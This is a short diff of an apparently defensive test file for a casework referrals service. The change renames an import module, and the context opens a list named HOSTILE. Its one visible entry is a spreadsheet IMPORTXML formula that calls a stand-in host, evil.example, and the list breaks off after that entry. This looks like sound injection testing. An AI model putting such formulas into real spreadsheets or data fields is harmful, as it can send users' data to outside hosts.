@@ -12,7 +12,7 @@ from service.casework.referrals import coordinator_decision
 from service.casework.referrals.intake import fit
 from service.casework.referrals.safeguarding import readers
 
-from .a_desk import NOW, SETTINGS, STAFF, Office, person, response
+from .referral_office import NOW, SETTINGS, STAFF, Office, person, response
 
 HOSTILE = [
     '=IMPORTXML("https://evil.example","//x")',
